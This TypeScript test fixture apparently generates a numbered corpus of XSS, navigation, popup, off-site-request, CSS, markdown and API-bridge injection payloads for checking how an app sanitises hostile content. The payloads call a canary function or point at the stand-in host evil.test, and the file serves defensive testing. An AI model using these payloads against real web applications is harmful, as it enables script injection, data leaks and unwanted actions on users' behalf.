/**
 * A deterministic corpus of hostile payloads (XSS, navigation, popups, off-site requests, API calls)
 * for the hostile-content journey. Every payload carries its own number: script that runs calls
 * `__pwned(n)` (the canary the journey installs), and everything that would leave the app points at
 * `http://evil.test/n`. No randomness: the same code gives the same corpus, so a failure names the
 * payload that caused it.
 */

export type HostilePayload = Readonly<{
  /** 1-based number, also the canary argument. */
  id: number;
  /** `hp0001`: written beside the payload wherever it is delivered, to see it rendered. */
  marker: string;
  /** The vector's family, for the report. */
  family: string;
  /** Which vector (template) it was made from; the variants of a vector share it. */
  vector: number;
  /** The payload text, as delivered. */
  text: string;
}>;

/** The origin every off-site payload points at (all requests there are caught and refused). */
export const EVIL_ORIGIN = 'http://evil.test';

type Vector = Readonly<{ family: string; make: (js: string, url: string, n: number) => string }>;

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const entities = (text: string) => [...text].map((char) => `&#${char.codePointAt(0) ?? 0};`).join('');
const hexEntities = (text: string) =>
  [...text].map((char) => `&#x${(char.codePointAt(0) ?? 0).toString(16)};`).join('');
const jsEscapes = (text: string) =>
  [...text].map((char) => `\\u${(char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`).join('');

/** Ways of running code once script execution is reached; each calls the canary with the number. */
const CODE: readonly ((n: number) => string)[] = [
  (n) => `__pwned(${n})`,
  (n) => `window['__pwned'](${n})`,
  (n) => `top.__pwned(${n});alert(${n})`,
];

const VECTORS: readonly Vector[] = [
  // Script elements.
  { family: 'script', make: (js) => `<script>${js}</script>` },
  { family: 'script', make: (js) => `<SCRIPT type="text/javascript">${js}</SCRIPT>` },
  { family: 'script', make: (_js, url) => `<script src="${url}/x.js"></script>` },
  { family: 'script', make: (js) => `<scr<script>ipt>${js}</scr</script>ipt>` },
  { family: 'script', make: (js) => `</title></textarea></style></noscript><script>${js}</script>` },
  { family: 'script', make: (js) => `<script>/*</script><script>*/${js}</script>` },
  { family: 'script', make: (js) => `<svg><script>${js}</script></svg>` },
  { family: 'script', make: (js) => `<svg><script href="data:,${encodeURIComponent(js)}"></script></svg>` },
  { family: 'script', make: (js) => `<script type="module">${js}</script>` },
  { family: 'script', make: (js) => `<template><script>${js}</script></template>` },
  // Event handlers that fire without a click.
  { family: 'event-handler', make: (js) => `<img src=x onerror=${js}>` },
  { family: 'event-handler', make: (js) => `<img src="x" onerror="${js}">` },
  { family: 'event-handler', make: (js) => `<IMG SRC=x ONERROR='${js}'>` },
  { family: 'event-handler', make: (js) => `<img/src/onerror=${js}>` },
  { family: 'event-handler', make: (js) => `<svg onload=${js}>` },
  { family: 'event-handler', make: (js) => `<svg/onload="${js}"/>` },
  { family: 'event-handler', make: (js) => `<body onload="${js}">` },
  { family: 'event-handler', make: (js) => `<input autofocus onfocus="${js}">` },
  { family: 'event-handler', make: (js) => `<select autofocus onfocus="${js}"></select>` },
  { family: 'event-handler', make: (js) => `<textarea autofocus onfocus="${js}"></textarea>` },
  { family: 'event-handler', make: (js) => `<details open ontoggle="${js}"><summary>x</summary></details>` },
  { family: 'event-handler', make: (js) => `<video><source onerror="${js}"></video>` },
  { family: 'event-handler', make: (js) => `<audio src=x onerror="${js}"></audio>` },
  { family: 'event-handler', make: (js) => `<marquee onstart="${js}">x</marquee>` },
  {
    family: 'event-handler',
    make: (js) => `<div onmouseover="${js}" style="position:fixed;inset:0">x</div>`,
  },
  { family: 'event-handler', make: (js) => `<iframe onload="${js}"></iframe>` },
  { family: 'event-handler', make: (js) => `<style onload="${js}"></style>` },
  { family: 'event-handler', make: (js, url) => `<link rel=stylesheet href="${url}/x.css" onerror="${js}">` },
  { family: 'event-handler', make: (js) => `<a autofocus onfocus="${js}" href="#">x</a>` },
  { family: 'event-handler', make: (js) => `<x contenteditable autofocus onfocus="${js}">x</x>` },
  { family: 'event-handler', make: (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>` },
  { family: 'event-handler', make: (js) => `<object data=x onerror="${js}"></object>` },
  { family: 'event-handler', make: (js) => `<body onpageshow="${js}">` },
  { family: 'event-handler', make: (js) => `<img src=x onerror=${entities(js)}>` },
  { family: 'event-handler', make: (js) => `<img src=x onerror="${hexEntities(js)}">` },
  { family: 'event-handler', make: (js) => `<img src=x onerror="eval('${jsEscapes(js)}')">` },
  { family: 'event-handler', make: (js) => `<img src=x onerror="setTimeout('${js}')">` },
  { family: 'event-handler', make: (js) => `<img src=x onerror="Function('${js}')()">` },
  { family: 'event-handler', make: (js) => `<img src=x onerror="[].constructor.constructor('${js}')()">` },
  // Mutation XSS: markup that changes meaning when serialised and parsed again.
  { family: 'mutation', make: (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">` },
  { family: 'mutation', make: (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">` },
  {
    family: 'mutation',
    make: (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  },
  { family: 'mutation', make: (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">` },
  {
    family: 'mutation',
    make: (js) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js} src=1>">`,
  },
  { family: 'mutation', make: (js) => `<!--<img src="--><img src=x onerror=${js}//">` },
  { family: 'mutation', make: (js) => `<![CDATA[><img src=x onerror=${js}>]]>` },
  // Script URLs.
  { family: 'script-url', make: (js) => `<a href="javascript:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="JaVaScRiPt:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="&#106;avascript:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="java&#x09;script:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="java\nscript:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href=" &#14; javascript:${js}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="${entities(`javascript:${js}`)}">click</a>` },
  { family: 'script-url', make: (js) => `<a href="data:text/html,<script>${js}</script>">click</a>` },
  {
    family: 'script-url',
    make: (js) => `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">x</a>`,
  },
  { family: 'script-url', make: (_js, _url, n) => `<a href="vbscript:msgbox(${n})">click</a>` },
  {
    family: 'script-url',
    make: (js) => `<svg><a xlink:href="javascript:${js}"><text y="9">x</text></a></svg>`,
  },
  { family: 'script-url', make: (js) => `<math href="javascript:${js}">click</math>` },
  { family: 'script-url', make: (js) => `<button formaction="javascript:${js}">go</button>` },
  { family: 'script-url', make: (js) => `<isindex action="javascript:${js}" type=image>` },
  { family: 'script-url', make: (js) => `<img src="javascript:${js}">` },
  // Frames, objects and embeds.
  { family: 'frame', make: (js) => `<iframe src="javascript:${js}"></iframe>` },
  { family: 'frame', make: (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>` },
  { family: 'frame', make: (js) => `<iframe srcdoc="&lt;img src=x onerror=parent.${js}&gt;"></iframe>` },
  { family: 'frame', make: (_js, url) => `<iframe src="${url}/frame"></iframe>` },
  { family: 'frame', make: (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>` },
  { family: 'frame', make: (js) => `<object data="javascript:${js}"></object>` },
  {
    family: 'frame',
    make: (_js, url) => `<object data="${url}/x.swf" type="application/x-shockwave-flash"></object>`,
  },
  { family: 'frame', make: (js) => `<embed src="javascript:${js}">` },
  { family: 'frame', make: (_js, url) => `<embed src="${url}/x.swf">` },
  {
    family: 'frame',
    make: (js) =>
      `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
  },
  { family: 'frame', make: (_js, url) => `<frameset><frame src="${url}/frame"></frameset>` },
  { family: 'frame', make: (_js, url) => `<portal src="${url}/portal"></portal>` },
  // Navigation away, forms, base changes.
  { family: 'navigation', make: (_js, url) => `<meta http-equiv="refresh" content="0;url=${url}/refresh">` },
  { family: 'navigation', make: (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">` },
  { family: 'navigation', make: (_js, url) => `<base href="${url}/">` },
  {
    family: 'navigation',
    make: (_js, url) => `<form action="${url}/form" method="post"><input type=submit></form>`,
  },
  { family: 'navigation', make: (js) => `<form action="javascript:${js}"><button>go</button></form>` },
  { family: 'navigation', make: (_js, url) => `<a href="${url}/blank" target="_blank">x</a>` },
  { family: 'navigation', make: (_js, url) => `<a href="${url}/ping" ping="${url}/ping-track">x</a>` },
  { family: 'navigation', make: (_js, url) => `<img src=x onerror="location='${url}/loc'">` },
  { family: 'navigation', make: (_js, url) => `<img src=x onerror="top.location.href='${url}/top'">` },
  { family: 'navigation', make: (_js, url) => `<svg onload="location.assign('${url}/assign')">` },
  {
    family: 'navigation',
    make: (_js, url) => `<img src=x onerror="document.location.replace('${url}/replace')">`,
  },
  {
    family: 'navigation',
    make: (_js, url) => `<img src=x onerror="history.pushState({},'','${url}/push')">`,
  },
  { family: 'navigation', make: (_js, url) => `";location='${url}/quote';//` },
  { family: 'navigation', make: (_js, url) => `';location='${url}/apos';//` },
  { family: 'navigation', make: (_js, url) => `</script><script>location.href='${url}/close'</script>` },
  // Popups and dialogs.
  { family: 'popup', make: (_js, url) => `<img src=x onerror="window.open('${url}/popup')">` },
  { family: 'popup', make: (_js, url) => `<svg/onload=open('${url}/open')>` },
  { family: 'popup', make: (_js, url) => `javascript:window.open('${url}/js-open')` },
  { family: 'popup', make: (_js, _url, n) => `<img src=x onerror=alert(${n})>` },
  { family: 'popup', make: (_js, _url, n) => `<img src=x onerror=confirm(${n})>` },
  { family: 'popup', make: (_js, _url, n) => `<img src=x onerror=prompt(${n})>` },
  { family: 'popup', make: (_js, _url, n) => `<img src=x onerror=print(${n})>` },
  // Calls into the app's own API bridge.
  {
    family: 'api-call',
    make: (js) => `<img src=x onerror="window.briefing.deleteCollection({collectionId:'x'});${js}">`,
  },
  {
    family: 'api-call',
    make: (js) => `<img src=x onerror="briefing.renameTag({from:'a',to:'pwned'});${js}">`,
  },
  {
    family: 'api-call',
    make: (js) => `<img src=x onerror="briefing.importPastedText({text:'pwned'});${js}">`,
  },
  {
    family: 'api-call',
    make: (js) => `<svg onload="briefing.exportCollectionBundle({collectionId:'x'});${js}">`,
  },
  // Off-site resources (a request to another origin is a leak even without script).
  { family: 'offsite', make: (_js, url) => `<img src="${url}/img.png">` },
  { family: 'offsite', make: (_js, url) => `<img srcset="${url}/img.png 1x">` },
  { family: 'offsite', make: (_js, url) => `<video poster="${url}/poster.png"></video>` },
  { family: 'offsite', make: (_js, url) => `<link rel="prefetch" href="${url}/prefetch">` },
  { family: 'offsite', make: (_js, url) => `<link rel="import" href="${url}/import">` },
  { family: 'offsite', make: (_js, url) => `<picture><source srcset="${url}/pic.png"><img></picture>` },
  { family: 'offsite', make: (_js, url) => `<input type="image" src="${url}/input.png">` },
  { family: 'offsite', make: (_js, url) => `<table background="${url}/bg.png"><tr><td>x</td></tr></table>` },
  // CSS.
  { family: 'css', make: (_js, url) => `<div style="background:url(${url}/bg.png)">x</div>` },
  { family: 'css', make: (js) => `<div style="background:url(javascript:${js})">x</div>` },
  { family: 'css', make: (js) => `<div style="width:expression(${js})">x</div>` },
  { family: 'css', make: (_js, url) => `<style>@import '${url}/x.css';</style>` },
  { family: 'css', make: (_js, url) => `<style>body{background:url("${url}/body.png")}</style>` },
  { family: 'css', make: (_js, url) => `<div style="behavior:url(${url}/x.htc)">x</div>` },
  { family: 'css', make: (_js, url) => `<style>*{-moz-binding:url(${url}/x.xml#xss)}</style>` },
  { family: 'css', make: (_js, url) => `<style>@font-face{font-family:x;src:url(${url}/f.woff)}</style>` },
  // Template and string-context injections.
  { family: 'template', make: (js) => `{{constructor.constructor('${js}')()}}` },
  { family: 'template', make: (js) => `\${${js}}` },
  { family: 'template', make: (js) => `<%= ${js} %>` },
  { family: 'template', make: (js) => `';${js};'` },
  { family: 'template', make: (js) => `";${js};"` },
  { family: 'template', make: (js) => `\\";${js};//` },
  // Markdown link and image tricks.
  { family: 'markdown', make: (js) => `[click](javascript:${js})` },
  { family: 'markdown', make: (js) => `[click](JAVASCRIPT:${js})` },
  { family: 'markdown', make: (js) => `[click](&#x6A;avascript:${js})` },
  { family: 'markdown', make: (js) => `[click](java%0ascript:${js})` },
  { family: 'markdown', make: (js) => `![img](javascript:${js})` },
  { family: 'markdown', make: (_js, url) => `![img](${url}/md.png)` },
  { family: 'markdown', make: (js) => `[click](data:text/html;base64,${b64(`<script>${js}</script>`)})` },
  { family: 'markdown', make: (_js, _url, n) => `[click](vbscript:msgbox(${n}))` },
  { family: 'markdown', make: (js) => `[ref][x${js.length}]\n\n[x${js.length}]: javascript:${js}` },
  { family: 'markdown', make: (js) => `<javascript:${js}>` },
  { family: 'markdown', make: (js) => `[<img src=x onerror="${js}">](https://example.org/)` },
  { family: 'markdown', make: (js) => `![" onerror="${js}](x)` },
  { family: 'markdown', make: (js) => `[x](https://example.org/ "\\" onmouseover=\\"${js}")` },
  { family: 'markdown', make: (js) => `\`<script>${js}</script>\`` },
  { family: 'markdown', make: (js) => `<details open ontoggle="${js}">\n\n**bold**\n\n</details>` },
  // Text that only looks like markup, in other encodings.
  { family: 'encoded', make: (js) => `＜script＞${js}＜/script＞` },
  { family: 'encoded', make: (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e` },
  { family: 'encoded', make: (js) => `%3Cscript%3E${encodeURIComponent(js)}%3C%2Fscript%3E` },
  { family: 'encoded', make: (js) => `&lt;script&gt;${js}&lt;/script&gt;` },
  { family: 'encoded', make: (js) => `&amp;lt;img src=x onerror=${js}&amp;gt;` },
  { family: 'encoded', make: (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>` },
  { family: 'encoded', make: (js) => `\u202e<script>${js}</script>\u202c` },
  { family: 'encoded', make: (js) => `<a href="java\u200bscript:${js}">x</a>` },
  { family: 'encoded', make: (js) => `\u00bcscript\u00be${js}\u00bc/script\u00be` },
  { family: 'encoded', make: (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-` },
];

/** How a payload is fitted into the surrounding text: as it is, or breaking out of a context. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><${''}/a>${payload}`,
  (payload) => `'></p>${payload}<p a='`,
  (payload) => `</div></li></td>${payload}`,
];

/** A number no payload has, to compare payloads by shape. */
const SHAPE_ID = 987_654_321;

/**
 * The corpus: every vector in every context with every way of running code, with payloads whose
 * text (number aside) repeats another's dropped, so each payload is distinct in shape.
 */
export function hostilePayloads(): readonly HostilePayload[] {
  const payloads: HostilePayload[] = [];
  const shapes = new Set<string>();
  for (const [vectorIndex, vector] of VECTORS.entries()) {
    for (const context of CONTEXTS) {
      for (const code of CODE) {
        const shape = context(vector.make(code(SHAPE_ID), `${EVIL_ORIGIN}/${SHAPE_ID}`, SHAPE_ID));
        if (shapes.has(shape)) continue;
        shapes.add(shape);
        const id = payloads.length + 1;
        const text = context(vector.make(code(id), `${EVIL_ORIGIN}/${id}`, id));
        payloads.push({ id, marker: markerFor(id), family: vector.family, vector: vectorIndex, text });
      }
    }
  }
  return payloads;
}

export function markerFor(id: number): string {
  return `hp${String(id).padStart(4, '0')}`;
}

/** Every marker in a text (the payloads rendered in it). */
export function markersIn(text: string): number[] {
  return [...text.matchAll(/hp(\d{4})/g)].map((match) => Number(match[1]));
}
